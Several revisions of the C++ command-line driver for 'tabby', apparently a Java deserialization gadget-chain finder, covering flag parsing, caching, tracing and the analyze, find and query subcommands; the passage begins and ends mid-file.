  // instead of adjacency vectors.
  auto query_result = frozen.has_value() ? cypher::run_query(*frozen, query_text, qopts)
                                         : cypher::run_query(db, query_text, qopts);
  if (!query_result.ok()) {
    err << "query error: " << query_result.error().to_string() << "\n";
    return 1;
  }
  if (args.explain) out << query_result.value().plan;
  out << (frozen.has_value() ? query_result.value().to_string(*frozen)
                             : query_result.value().to_string(db))
      << "(" << query_result.value().rows.size() << " row(s))\n";
  return degraded;
}

int dispatch(const Args& args, std::ostream& out, std::ostream& err) {
  const std::string& command = args.positional[0];
  obs::Span span("cli.command");
  if (span.active()) span.attr("command", command);
  if (command == "list") return cmd_list(out);
  if (command == "gen") return cmd_gen(args, out, err);
  if (command == "analyze") return cmd_analyze(args, out, err);
  if (command == "find") return cmd_find(args, out, err);
  if (command == "cache") return cmd_cache(args, out, err);
  if (command == "query") return cmd_query(args, out, err);
  err << "error: unknown command: " << command << "\n";
  return usage(err);
}

}  // namespace

int run_cli(const std::vector<std::string>& args, std::ostream& out, std::ostream& err) {
  Args parsed = parse_args(args);
  if (!parsed.error.empty()) {
    err << "error: " << parsed.error << "\n";
    return 2;
  }
  if (parsed.positional.empty()) return usage(err);

  // Observability is strictly additive: the tracer only records timings and
  // counts, so every byte of out/err (and any --store file) is identical
  // with and without --trace/--metrics.
  bool observing = parsed.metrics || !parsed.trace_file.empty();
  if (observing) obs::Tracer::instance().enable();
  // Last-resort fail-soft seam: a stray exception anywhere below (worker
  // task faults included) becomes a structured fatal error, never a crash —
  // the invariant the chaos tests sweep for.
  int code;
  try {
    code = dispatch(parsed, out, err);
  } catch (const std::exception& e) {
    err << "error: unhandled exception: " << e.what() << "\n";
    code = 1;
  }
  if (observing) {
    obs::TraceReport report = obs::Tracer::instance().flush();
    obs::Tracer::instance().disable();
    if (parsed.metrics) err << report.metrics_summary();
    if (!parsed.trace_file.empty()) {
      std::ofstream trace(parsed.trace_file, std::ios::trunc);
      trace << report.to_chrome_json();
      if (!trace) {
        err << "error: cannot write trace file " << parsed.trace_file << "\n";
        if (code == 0) code = 1;
      }
    }
  }
  return code;
}

}  // namespace tabby::cli
