#include "cli/cli.hpp"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <memory>

#include "cache/cache.hpp"
#include "corpus/components.hpp"
#include "corpus/jdk.hpp"
#include "corpus/scenes.hpp"
#include "cpg/builder.hpp"
#include "cypher/cypher.hpp"
#include "finder/finder.hpp"
#include "finder/payload.hpp"
#include "graph/serialize.hpp"
#include "jar/archive.hpp"
#include "util/digest.hpp"
#include "util/strings.hpp"
#include "util/thread_pool.hpp"

namespace tabby::cli {

namespace {

namespace fs = std::filesystem;

struct Args {
  std::vector<std::string> positional;
  std::string store;
  std::string out_dir;
  std::string cache_dir;
  int depth = 12;
  int jobs = 0;  // 0 = hardware default; 1 = serial (historical pipeline)
  bool verify = false;
  bool with_jdk = true;
  std::string error;
};

/// The worker pool behind --jobs. Returns null for an effective job count of
/// 1: every stage treats a null Executor* as "run inline in index order",
/// which is exactly the pre-parallel pipeline.
std::unique_ptr<util::ThreadPool> make_pool(int jobs) {
  unsigned n = jobs > 0 ? static_cast<unsigned>(jobs) : util::ThreadPool::default_jobs();
  if (n <= 1) return nullptr;
  return std::make_unique<util::ThreadPool>(n);
}

Args parse_args(const std::vector<std::string>& raw) {
  Args args;
  for (std::size_t i = 0; i < raw.size(); ++i) {
    const std::string& a = raw[i];
    auto take_value = [&](std::string& into) {
      if (i + 1 >= raw.size()) {
        args.error = "missing value for " + a;
        return false;
      }
      into = raw[++i];
      return true;
    };
    if (a == "--store") {
      if (!take_value(args.store)) return args;
    } else if (a == "--cache") {
      if (!take_value(args.cache_dir)) return args;
    } else if (a == "--out") {
      if (!take_value(args.out_dir)) return args;
    } else if (a == "--depth") {
      std::string v;
      if (!take_value(v)) return args;
      args.depth = std::atoi(v.c_str());
      if (args.depth <= 0) args.error = "bad --depth value: " + v;
    } else if (a == "--jobs") {
      std::string v;
      if (!take_value(v)) return args;
      args.jobs = std::atoi(v.c_str());
      if (args.jobs <= 0) args.error = "bad --jobs value: " + v;
    } else if (a == "--verify") {
      args.verify = true;
    } else if (a == "--no-jdk") {
      args.with_jdk = false;
    } else if (util::starts_with(a, "--")) {
      args.error = "unknown flag: " + a;
      return args;
    } else {
      args.positional.push_back(a);
    }
  }
  return args;
}

int usage(std::ostream& err) {
  err << "usage:\n"
         "  tabby list\n"
         "  tabby gen <component-or-scene> --out DIR\n"
         "  tabby analyze JAR... [--store FILE] [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby find JAR... [--depth N] [--verify] [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby query JAR... \"MATCH ... RETURN ...\" [--cache DIR] [--no-jdk] [--jobs N]\n"
         "  tabby query --store FILE \"MATCH ... RETURN ...\"\n"
         "\n"
         "  --jobs N     worker threads for the parallel stages (default: all\n"
         "               hardware threads; 1 = serial). Output is identical at\n"
         "               any job count.\n"
         "  --cache DIR  incremental analysis cache: per-archive fragments plus\n"
         "               whole-classpath CPG snapshots, keyed by content digests.\n"
         "               A warm run on an unchanged classpath skips recomputation\n"
         "               and produces identical output.\n";
  return 2;
}

/// Load .tjar paths and link, optionally prefixing the simulated JDK.
bool load_program(const std::vector<std::string>& paths, bool with_jdk, util::Executor* executor,
                  jir::Program& program, std::ostream& err) {
  std::vector<jar::Archive> classpath;
  if (with_jdk) classpath.push_back(corpus::jdk_base_archive());
  std::vector<std::filesystem::path> files(paths.begin(), paths.end());
  std::vector<util::Result<jar::Archive>> archives = jar::read_archive_files(files, executor);
  for (std::size_t i = 0; i < archives.size(); ++i) {
    if (!archives[i].ok()) {
      err << "error: " << paths[i] << ": " << archives[i].error().to_string() << "\n";
      return false;
    }
    classpath.push_back(std::move(archives[i].value()));
  }
  program = jar::link(classpath);
  return true;
}

/// The CPG for one analyze/find/query invocation, however it was obtained
/// (cold build or cache snapshot).
struct CpgOutcome {
  graph::GraphDb db;
  cpg::CpgStats stats;
  /// graph::serialize(db), the exact bytes `--store` writes. Always present
  /// on a cache run (snapshots embed them); on a cache-less run only when
  /// requested via need_graph_bytes.
  std::vector<std::byte> graph_bytes;
  /// The "cache:" stats line; empty when --cache is off.
  std::string cache_line;
  bool warm = false;
};

bool write_bytes(const std::vector<std::byte>& bytes, const fs::path& path, std::ostream& err) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(reinterpret_cast<const char*>(bytes.data()),
            static_cast<std::streamsize>(bytes.size()));
  if (!out) {
    err << "error: cannot write " << path.string() << "\n";
    return false;
  }
  return true;
}

/// Cache-aware pipeline front end shared by analyze/find/query: digest the
/// classpath, warm-start from a snapshot when one matches, otherwise load
/// archives through per-archive fragments, build the CPG and publish a new
/// snapshot. Without --cache this is the plain cold pipeline. When
/// `need_program` is set (find --verify, or any cache miss) the linked
/// program is left in `program_out`.
bool obtain_cpg(const Args& args, const std::vector<std::string>& jar_paths,
                util::Executor* executor, bool need_program, bool need_graph_bytes,
                jir::Program* program_out, CpgOutcome& outcome, std::ostream& err) {
  cpg::CpgOptions options;
  options.executor = executor;

  if (args.cache_dir.empty()) {
    jir::Program program;
    if (!load_program(jar_paths, args.with_jdk, executor, program, err)) return false;
    cpg::Cpg cpg = cpg::build_cpg(program, options);
    outcome.db = std::move(cpg.db);
    outcome.stats = cpg.stats;
    if (need_graph_bytes) outcome.graph_bytes = graph::serialize(outcome.db);
    if (need_program && program_out != nullptr) *program_out = std::move(program);
    return true;
  }

  auto opened = cache::AnalysisCache::open(args.cache_dir);
  if (!opened.ok()) {
    err << "error: " << opened.error().to_string() << "\n";
    return false;
  }
  cache::AnalysisCache& cache = opened.value();

  // Classpath digests in link order: the simulated JDK (when included) is
  // part of the analyzed world, so its content is part of the key.
  std::vector<std::uint64_t> digests;
  if (args.with_jdk) {
    digests.push_back(util::fnv1a(jar::write_archive(corpus::jdk_base_archive())));
  }
  for (const std::string& path : jar_paths) {
    auto digest = cache::AnalysisCache::digest_file(path);
    if (!digest.ok()) {
      err << "error: " << path << ": " << digest.error().to_string() << "\n";
      return false;
    }
    digests.push_back(digest.value());
  }
  std::uint64_t key = cache::AnalysisCache::snapshot_key(cpg::options_fingerprint(options), digests);

  std::optional<cache::CachedCpg> snapshot = cache.load_snapshot(key);
  if (!snapshot.has_value() || need_program) {
    // Load the program through per-archive fragments: unchanged archives
    // warm-start, only changed ones are re-decoded from the original bytes.
    std::vector<jar::Archive> classpath;
    if (args.with_jdk) classpath.push_back(corpus::jdk_base_archive());
    for (const std::string& path : jar_paths) {
      auto loaded = cache.load_archive(path);
      if (!loaded.ok()) {
        err << "error: " << path << ": " << loaded.error().to_string() << "\n";
        return false;
      }
      classpath.push_back(std::move(loaded.value().archive));
    }
    jir::Program program = jar::link(classpath);
    if (!snapshot.has_value()) {
      cpg::Cpg cpg = cpg::build_cpg(program, options);
      outcome.db = std::move(cpg.db);
      outcome.stats = cpg.stats;
      outcome.graph_bytes = graph::serialize(outcome.db);
      auto stored = cache.store_snapshot(key, outcome.stats, outcome.graph_bytes);
      if (!stored.ok()) {
        err << "warning: " << stored.error().to_string() << " (continuing without snapshot)\n";
      }
    }
    if (need_program && program_out != nullptr) *program_out = std::move(program);
  }
  if (snapshot.has_value()) {
    outcome.db = std::move(snapshot->db);
    outcome.stats = snapshot->stats;
    outcome.graph_bytes = std::move(snapshot->graph_bytes);
    outcome.warm = true;
    // Persistence stores data, not index structures; recreate the standard
    // set so lookups behave exactly as on a freshly built CPG.
    cpg::create_standard_indexes(outcome.db, executor);
  }
  outcome.cache_line = cache.stats().to_line();
  return true;
}

int cmd_list(std::ostream& out) {
  out << "components (Table IX):\n";
  for (const std::string& name : corpus::component_names()) out << "  " << name << "\n";
  out << "scenes (Table X):\n";
  for (const std::string& name : corpus::scene_names()) out << "  " << name << "\n";
  return 0;
}

int cmd_gen(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() != 2 || args.out_dir.empty()) {
    err << "usage: tabby gen <component-or-scene> --out DIR\n";
    return 2;
  }
  const std::string& name = args.positional[1];
  std::error_code ec;
  fs::create_directories(args.out_dir, ec);

  std::vector<jar::Archive> archives;
  const auto& components = corpus::component_names();
  const auto& scenes = corpus::scene_names();
  if (std::find(components.begin(), components.end(), name) != components.end()) {
    corpus::Component component = corpus::build_component(name);
    archives.push_back(corpus::jdk_base_archive());
    archives.push_back(std::move(component.jar));
  } else if (std::find(scenes.begin(), scenes.end(), name) != scenes.end()) {
    archives = corpus::build_scene(name).jars;
  } else {
    err << "error: unknown component or scene: " << name << "\n";
    return 1;
  }

  for (const jar::Archive& archive : archives) {
    std::string file = archive.meta.name;
    for (char& c : file) {
      if (c == '/' || c == ' ' || c == '(' || c == ')') c = '_';
    }
    if (!util::ends_with(file, ".tjar")) file += ".tjar";
    fs::path path = fs::path(args.out_dir) / file;
    auto status = jar::write_archive_file(archive, path);
    if (!status.ok()) {
      err << "error: " << status.error().to_string() << "\n";
      return 1;
    }
    out << "wrote " << path.string() << " (" << archive.classes.size() << " classes)\n";
  }
  return 0;
}

int cmd_analyze(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby analyze JAR... [--store FILE]\n";
    return 2;
  }
  std::unique_ptr<util::ThreadPool> pool = make_pool(args.jobs);
  CpgOutcome outcome;
  if (!obtain_cpg(args, {args.positional.begin() + 1, args.positional.end()}, pool.get(),
                  /*need_program=*/false, /*need_graph_bytes=*/!args.store.empty(), nullptr,
                  outcome, err)) {
    return 1;
  }
  if (!outcome.cache_line.empty()) out << outcome.cache_line << "\n";
  out << "classes:  " << outcome.stats.class_nodes << "\n"
      << "methods:  " << outcome.stats.method_nodes << "\n"
      << "edges:    " << outcome.stats.relationship_edges << " (" << outcome.stats.call_edges
      << " CALL, " << outcome.stats.alias_edges << " ALIAS)\n"
      << "sources:  " << outcome.stats.source_methods << "\n"
      << "sinks:    " << outcome.stats.sink_methods << "\n"
      << "pruned:   " << outcome.stats.pruned_call_sites << " uncontrollable call sites\n"
      << "build:    " << util::format_double(outcome.stats.build_seconds, 3) << " s\n";
  if (!args.store.empty()) {
    // Write the serialized bytes directly: on a warm run these are the
    // snapshot's embedded store, byte-identical to the cold run's output.
    if (!write_bytes(outcome.graph_bytes, args.store, err)) return 1;
    out << "graph store written to " << args.store << "\n";
  }
  return 0;
}

int cmd_find(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby find JAR... [--depth N] [--verify]\n";
    return 2;
  }
  std::unique_ptr<util::ThreadPool> pool = make_pool(args.jobs);
  jir::Program program;
  CpgOutcome outcome;
  if (!obtain_cpg(args, {args.positional.begin() + 1, args.positional.end()}, pool.get(),
                  /*need_program=*/args.verify, /*need_graph_bytes=*/false, &program, outcome,
                  err)) {
    return 1;
  }
  if (!outcome.cache_line.empty()) out << outcome.cache_line << "\n";
  finder::FinderOptions options;
  options.max_depth = args.depth;
  options.executor = pool.get();
  finder::GadgetChainFinder finder(outcome.db, options);
  finder::FinderReport report = finder.find_all();

  out << report.chains.size() << " gadget chain(s), "
      << util::format_double(report.search_seconds, 3) << " s search\n\n";
  std::size_t confirmed = 0;
  for (const finder::GadgetChain& chain : report.chains) {
    out << chain.to_string();
    if (args.verify) {
      finder::AutoVerifyResult verdict = finder::auto_verify(program, outcome.db, chain);
      out << "  auto-verify: " << (verdict.effective ? "EFFECTIVE" : "refuted") << "\n";
      confirmed += verdict.effective ? 1 : 0;
    }
    out << "\n";
  }
  if (args.verify) {
    out << confirmed << "/" << report.chains.size() << " chains confirmed effective\n";
  }
  return 0;
}

int cmd_query(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby query (JAR...|--store FILE) \"MATCH ...\"\n";
    return 2;
  }
  std::string query_text = args.positional.back();
  graph::GraphDb db;
  if (!args.store.empty()) {
    auto loaded = graph::load(args.store);
    if (!loaded.ok()) {
      err << "error: " << loaded.error().to_string() << "\n";
      return 1;
    }
    db = std::move(loaded.value());
  } else {
    if (args.positional.size() < 3) {
      err << "usage: tabby query JAR... \"MATCH ...\"\n";
      return 2;
    }
    std::unique_ptr<util::ThreadPool> pool = make_pool(args.jobs);
    CpgOutcome outcome;
    if (!obtain_cpg(args, {args.positional.begin() + 1, args.positional.end() - 1}, pool.get(),
                    /*need_program=*/false, /*need_graph_bytes=*/false, nullptr, outcome, err)) {
      return 1;
    }
    if (!outcome.cache_line.empty()) out << outcome.cache_line << "\n";
    db = std::move(outcome.db);
  }
  auto result = cypher::run_query(db, query_text);
  if (!result.ok()) {
    err << "query error: " << result.error().to_string() << "\n";
    return 1;
  }
  out << result.value().to_string(db) << "(" << result.value().rows.size() << " row(s))\n";
  return 0;
}

}  // namespace

int run_cli(const std::vector<std::string>& args, std::ostream& out, std::ostream& err) {
  Args parsed = parse_args(args);
  if (!parsed.error.empty()) {
    err << "error: " << parsed.error << "\n";
    return 2;
  }
  if (parsed.positional.empty()) return usage(err);
  const std::string& command = parsed.positional[0];
  if (command == "list") return cmd_list(out);
  if (command == "gen") return cmd_gen(parsed, out, err);
  if (command == "analyze") return cmd_analyze(parsed, out, err);
  if (command == "find") return cmd_find(parsed, out, err);
  if (command == "query") return cmd_query(parsed, out, err);
  err << "error: unknown command: " << command << "\n";
  return usage(err);
}

}  // namespace tabby::cli
