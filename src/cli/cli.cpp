#include "cli/cli.hpp"

#include <algorithm>
#include <filesystem>
#include <memory>

#include "corpus/components.hpp"
#include "corpus/jdk.hpp"
#include "corpus/scenes.hpp"
#include "cpg/builder.hpp"
#include "cypher/cypher.hpp"
#include "finder/finder.hpp"
#include "finder/payload.hpp"
#include "graph/serialize.hpp"
#include "jar/archive.hpp"
#include "util/strings.hpp"
#include "util/thread_pool.hpp"

namespace tabby::cli {

namespace {

namespace fs = std::filesystem;

struct Args {
  std::vector<std::string> positional;
  std::string store;
  std::string out_dir;
  int depth = 12;
  int jobs = 0;  // 0 = hardware default; 1 = serial (historical pipeline)
  bool verify = false;
  bool with_jdk = true;
  std::string error;
};

/// The worker pool behind --jobs. Returns null for an effective job count of
/// 1: every stage treats a null Executor* as "run inline in index order",
/// which is exactly the pre-parallel pipeline.
std::unique_ptr<util::ThreadPool> make_pool(int jobs) {
  unsigned n = jobs > 0 ? static_cast<unsigned>(jobs) : util::ThreadPool::default_jobs();
  if (n <= 1) return nullptr;
  return std::make_unique<util::ThreadPool>(n);
}

Args parse_args(const std::vector<std::string>& raw) {
  Args args;
  for (std::size_t i = 0; i < raw.size(); ++i) {
    const std::string& a = raw[i];
    auto take_value = [&](std::string& into) {
      if (i + 1 >= raw.size()) {
        args.error = "missing value for " + a;
        return false;
      }
      into = raw[++i];
      return true;
    };
    if (a == "--store") {
      if (!take_value(args.store)) return args;
    } else if (a == "--out") {
      if (!take_value(args.out_dir)) return args;
    } else if (a == "--depth") {
      std::string v;
      if (!take_value(v)) return args;
      args.depth = std::atoi(v.c_str());
      if (args.depth <= 0) args.error = "bad --depth value: " + v;
    } else if (a == "--jobs") {
      std::string v;
      if (!take_value(v)) return args;
      args.jobs = std::atoi(v.c_str());
      if (args.jobs <= 0) args.error = "bad --jobs value: " + v;
    } else if (a == "--verify") {
      args.verify = true;
    } else if (a == "--no-jdk") {
      args.with_jdk = false;
    } else if (util::starts_with(a, "--")) {
      args.error = "unknown flag: " + a;
      return args;
    } else {
      args.positional.push_back(a);
    }
  }
  return args;
}

int usage(std::ostream& err) {
  err << "usage:\n"
         "  tabby list\n"
         "  tabby gen <component-or-scene> --out DIR\n"
         "  tabby analyze JAR... [--store FILE] [--no-jdk] [--jobs N]\n"
         "  tabby find JAR... [--depth N] [--verify] [--no-jdk] [--jobs N]\n"
         "  tabby query JAR... \"MATCH ... RETURN ...\" [--no-jdk] [--jobs N]\n"
         "  tabby query --store FILE \"MATCH ... RETURN ...\"\n"
         "\n"
         "  --jobs N  worker threads for the parallel stages (default: all\n"
         "            hardware threads; 1 = serial). Output is identical at\n"
         "            any job count.\n";
  return 2;
}

/// Load .tjar paths and link, optionally prefixing the simulated JDK.
bool load_program(const std::vector<std::string>& paths, bool with_jdk, util::Executor* executor,
                  jir::Program& program, std::ostream& err) {
  std::vector<jar::Archive> classpath;
  if (with_jdk) classpath.push_back(corpus::jdk_base_archive());
  std::vector<std::filesystem::path> files(paths.begin(), paths.end());
  std::vector<util::Result<jar::Archive>> archives = jar::read_archive_files(files, executor);
  for (std::size_t i = 0; i < archives.size(); ++i) {
    if (!archives[i].ok()) {
      err << "error: " << paths[i] << ": " << archives[i].error().to_string() << "\n";
      return false;
    }
    classpath.push_back(std::move(archives[i].value()));
  }
  program = jar::link(classpath);
  return true;
}

int cmd_list(std::ostream& out) {
  out << "components (Table IX):\n";
  for (const std::string& name : corpus::component_names()) out << "  " << name << "\n";
  out << "scenes (Table X):\n";
  for (const std::string& name : corpus::scene_names()) out << "  " << name << "\n";
  return 0;
}

int cmd_gen(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() != 2 || args.out_dir.empty()) {
    err << "usage: tabby gen <component-or-scene> --out DIR\n";
    return 2;
  }
  const std::string& name = args.positional[1];
  std::error_code ec;
  fs::create_directories(args.out_dir, ec);

  std::vector<jar::Archive> archives;
  const auto& components = corpus::component_names();
  const auto& scenes = corpus::scene_names();
  if (std::find(components.begin(), components.end(), name) != components.end()) {
    corpus::Component component = corpus::build_component(name);
    archives.push_back(corpus::jdk_base_archive());
    archives.push_back(std::move(component.jar));
  } else if (std::find(scenes.begin(), scenes.end(), name) != scenes.end()) {
    archives = corpus::build_scene(name).jars;
  } else {
    err << "error: unknown component or scene: " << name << "\n";
    return 1;
  }

  for (const jar::Archive& archive : archives) {
    std::string file = archive.meta.name;
    for (char& c : file) {
      if (c == '/' || c == ' ' || c == '(' || c == ')') c = '_';
    }
    if (!util::ends_with(file, ".tjar")) file += ".tjar";
    fs::path path = fs::path(args.out_dir) / file;
    auto status = jar::write_archive_file(archive, path);
    if (!status.ok()) {
      err << "error: " << status.error().to_string() << "\n";
      return 1;
    }
    out << "wrote " << path.string() << " (" << archive.classes.size() << " classes)\n";
  }
  return 0;
}

int cmd_analyze(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby analyze JAR... [--store FILE]\n";
    return 2;
  }
  std::unique_ptr<util::ThreadPool> pool = make_pool(args.jobs);
  jir::Program program;
  if (!load_program({args.positional.begin() + 1, args.positional.end()}, args.with_jdk,
                    pool.get(), program, err)) {
    return 1;
  }
  cpg::CpgOptions cpg_options;
  cpg_options.executor = pool.get();
  cpg::Cpg cpg = cpg::build_cpg(program, cpg_options);
  out << "classes:  " << cpg.stats.class_nodes << "\n"
      << "methods:  " << cpg.stats.method_nodes << "\n"
      << "edges:    " << cpg.stats.relationship_edges << " (" << cpg.stats.call_edges << " CALL, "
      << cpg.stats.alias_edges << " ALIAS)\n"
      << "sources:  " << cpg.stats.source_methods << "\n"
      << "sinks:    " << cpg.stats.sink_methods << "\n"
      << "pruned:   " << cpg.stats.pruned_call_sites << " uncontrollable call sites\n"
      << "build:    " << util::format_double(cpg.stats.build_seconds, 3) << " s\n";
  if (!args.store.empty()) {
    auto status = graph::save(cpg.db, args.store);
    if (!status.ok()) {
      err << "error: " << status.error().to_string() << "\n";
      return 1;
    }
    out << "graph store written to " << args.store << "\n";
  }
  return 0;
}

int cmd_find(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby find JAR... [--depth N] [--verify]\n";
    return 2;
  }
  std::unique_ptr<util::ThreadPool> pool = make_pool(args.jobs);
  jir::Program program;
  if (!load_program({args.positional.begin() + 1, args.positional.end()}, args.with_jdk,
                    pool.get(), program, err)) {
    return 1;
  }
  cpg::CpgOptions cpg_options;
  cpg_options.executor = pool.get();
  cpg::Cpg cpg = cpg::build_cpg(program, cpg_options);
  finder::FinderOptions options;
  options.max_depth = args.depth;
  options.executor = pool.get();
  finder::GadgetChainFinder finder(cpg.db, options);
  finder::FinderReport report = finder.find_all();

  out << report.chains.size() << " gadget chain(s), "
      << util::format_double(report.search_seconds, 3) << " s search\n\n";
  std::size_t confirmed = 0;
  for (const finder::GadgetChain& chain : report.chains) {
    out << chain.to_string();
    if (args.verify) {
      finder::AutoVerifyResult verdict = finder::auto_verify(program, cpg.db, chain);
      out << "  auto-verify: " << (verdict.effective ? "EFFECTIVE" : "refuted") << "\n";
      confirmed += verdict.effective ? 1 : 0;
    }
    out << "\n";
  }
  if (args.verify) {
    out << confirmed << "/" << report.chains.size() << " chains confirmed effective\n";
  }
  return 0;
}

int cmd_query(const Args& args, std::ostream& out, std::ostream& err) {
  if (args.positional.size() < 2) {
    err << "usage: tabby query (JAR...|--store FILE) \"MATCH ...\"\n";
    return 2;
  }
  std::string query_text = args.positional.back();
  graph::GraphDb db;
  if (!args.store.empty()) {
    auto loaded = graph::load(args.store);
    if (!loaded.ok()) {
      err << "error: " << loaded.error().to_string() << "\n";
      return 1;
    }
    db = std::move(loaded.value());
  } else {
    if (args.positional.size() < 3) {
      err << "usage: tabby query JAR... \"MATCH ...\"\n";
      return 2;
    }
    std::unique_ptr<util::ThreadPool> pool = make_pool(args.jobs);
    jir::Program program;
    if (!load_program({args.positional.begin() + 1, args.positional.end() - 1}, args.with_jdk,
                      pool.get(), program, err)) {
      return 1;
    }
    cpg::CpgOptions cpg_options;
    cpg_options.executor = pool.get();
    db = std::move(cpg::build_cpg(program, cpg_options).db);
  }
  auto result = cypher::run_query(db, query_text);
  if (!result.ok()) {
    err << "query error: " << result.error().to_string() << "\n";
    return 1;
  }
  out << result.value().to_string(db) << "(" << result.value().rows.size() << " row(s))\n";
  return 0;
}

}  // namespace

int run_cli(const std::vector<std::string>& args, std::ostream& out, std::ostream& err) {
  Args parsed = parse_args(args);
  if (!parsed.error.empty()) {
    err << "error: " << parsed.error << "\n";
    return 2;
  }
  if (parsed.positional.empty()) return usage(err);
  const std::string& command = parsed.positional[0];
  if (command == "list") return cmd_list(out);
  if (command == "gen") return cmd_gen(parsed, out, err);
  if (command == "analyze") return cmd_analyze(parsed, out, err);
  if (command == "find") return cmd_find(parsed, out, err);
  if (command == "query") return cmd_query(parsed, out, err);
  err << "error: unknown command: " << command << "\n";
  return usage(err);
}

}  // namespace tabby::cli
