#include "cli/cli.hpp"

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <memory>
#include <optional>

#include "cache/cache.hpp"
#include "corpus/components.hpp"
#include "corpus/jdk.hpp"
#include "corpus/scenes.hpp"
#include "corpus/stress.hpp"
#include "cpg/builder.hpp"
#include "cypher/cypher.hpp"
#include "finder/finder.hpp"
#include "finder/payload.hpp"
#include "finder/verify.hpp"
#include "graph/serialize.hpp"
#include "jar/archive.hpp"
#include "obs/obs.hpp"
#include "pipeline/engine.hpp"
#include "pipeline/pipeline.hpp"
#include "serve/json.hpp"
#include "serve/serve.hpp"
#include "util/deadline.hpp"
#include "util/memory_budget.hpp"
#include "util/strings.hpp"
#include "util/thread_pool.hpp"

namespace tabby::cli {

namespace {

namespace fs = std::filesystem;

/// Wall-clock budgets, parsed but not yet anchored: Deadlines are created at
/// the point the budgeted work starts, so a slow flag-parse never eats into
/// the budget.
struct BudgetSpec {
  std::optional<std::chrono::milliseconds> run;     // --deadline
  std::optional<std::chrono::milliseconds> load;    // --phase-budget load=
  std::optional<std::chrono::milliseconds> finder;  // --phase-budget finder=
  std::optional<std::chrono::milliseconds> verify;  // --phase-budget verify=
  std::optional<std::uint64_t> mem;                 // --mem-budget (bytes)
  std::optional<std::uint64_t> finder_mem;          // --phase-budget finder-mem=
};

struct Args {
  std::vector<std::string> positional;
  std::string store;
  std::string out_dir;
  std::string cache_dir;
  std::string trace_file;
  std::string deadline;                     // --deadline DUR (raw text)
  std::string mem_budget;                   // --mem-budget SIZE (raw text)
  std::vector<std::string> phase_budgets;   // --phase-budget PHASE=DUR, repeatable
  int depth = 12;
  int jobs = 0;  // 0 = hardware default; 1 = serial (historical pipeline)
  int workers = 0;  // finder worker processes (0 = in-process; docs/ROBUSTNESS.md)
  int verify_workers = 0;  // verify post-pass worker processes (0 = in-process shards)
  int max_resident = 0;  // `serve`: LRU entry cap for resident analyses (0 = bytes only)
  bool verify = false;
  bool frozen = true;  // find/query: use the frozen CSR snapshot (docs/GRAPH.md)
  bool with_jdk = true;
  bool metrics = false;
  bool strict = false;  // promote degradation to failure (FailurePolicy::kStrict)
  bool prune = false;   // `cache` subcommand: remove what the audit flags
  bool explain = false;  // `query`: print the compiled plan before the rows
  bool plan = true;      // `query`: --no-plan forces the naive evaluator
  BudgetSpec budgets;   // validated form of deadline/phase_budgets
  std::string error;
};

// --- Declarative flag table -----------------------------------------------
//
// One table shared by every subcommand. Each row binds a flag name to an
// Args member; parse_args is a single loop over it, so adding a flag is one
// line here plus a usage() row — no if/else ladder to extend.

struct FlagSpec {
  enum class Kind {
    Text,    // --flag VALUE, stored verbatim
    Multi,   // --flag VALUE, repeatable, appended verbatim
    Count,   // --flag N, checked base-10 parse, must be >= min
    Switch,  // --flag, stores `switch_value`
  };
  const char* name;
  Kind kind;
  std::string Args::* text = nullptr;
  int Args::* count = nullptr;
  int min = 1;
  bool Args::* toggle = nullptr;
  bool switch_value = true;
  std::vector<std::string> Args::* multi = nullptr;
};

constexpr FlagSpec kFlags[] = {
    {.name = "--store", .kind = FlagSpec::Kind::Text, .text = &Args::store},
    {.name = "--out", .kind = FlagSpec::Kind::Text, .text = &Args::out_dir},
    {.name = "--cache", .kind = FlagSpec::Kind::Text, .text = &Args::cache_dir},
    {.name = "--trace", .kind = FlagSpec::Kind::Text, .text = &Args::trace_file},
    {.name = "--depth", .kind = FlagSpec::Kind::Count, .count = &Args::depth, .min = 1},
    {.name = "--jobs", .kind = FlagSpec::Kind::Count, .count = &Args::jobs, .min = 1},
    {.name = "--workers", .kind = FlagSpec::Kind::Count, .count = &Args::workers, .min = 0},
    {.name = "--verify-workers",
     .kind = FlagSpec::Kind::Count,
     .count = &Args::verify_workers,
     .min = 0},
    {.name = "--max-resident", .kind = FlagSpec::Kind::Count, .count = &Args::max_resident, .min = 1},
    {.name = "--verify", .kind = FlagSpec::Kind::Switch, .toggle = &Args::verify},
    {.name = "--frozen", .kind = FlagSpec::Kind::Switch, .toggle = &Args::frozen},
    {.name = "--no-frozen",
     .kind = FlagSpec::Kind::Switch,
     .toggle = &Args::frozen,
     .switch_value = false},
    {.name = "--no-jdk",
     .kind = FlagSpec::Kind::Switch,
     .toggle = &Args::with_jdk,
     .switch_value = false},
    {.name = "--metrics", .kind = FlagSpec::Kind::Switch, .toggle = &Args::metrics},
    {.name = "--deadline", .kind = FlagSpec::Kind::Text, .text = &Args::deadline},
    {.name = "--mem-budget", .kind = FlagSpec::Kind::Text, .text = &Args::mem_budget},
    {.name = "--phase-budget", .kind = FlagSpec::Kind::Multi, .multi = &Args::phase_budgets},
    {.name = "--strict", .kind = FlagSpec::Kind::Switch, .toggle = &Args::strict},
    {.name = "--prune", .kind = FlagSpec::Kind::Switch, .toggle = &Args::prune},
    {.name = "--explain", .kind = FlagSpec::Kind::Switch, .toggle = &Args::explain},
    {.name = "--no-plan",
     .kind = FlagSpec::Kind::Switch,
     .toggle = &Args::plan,
     .switch_value = false},
};

/// Validates --deadline / --phase-budget text into a BudgetSpec. Returns a
/// usage-class error message on malformed input, empty string on success.
std::string parse_budgets(Args& args) {
  if (!args.deadline.empty()) {
    auto ms = util::parse_duration_ms(args.deadline);
    if (!ms.ok()) return "bad --deadline value: " + args.deadline + " (" + ms.error().message + ")";
    args.budgets.run = std::chrono::milliseconds{ms.value()};
  }
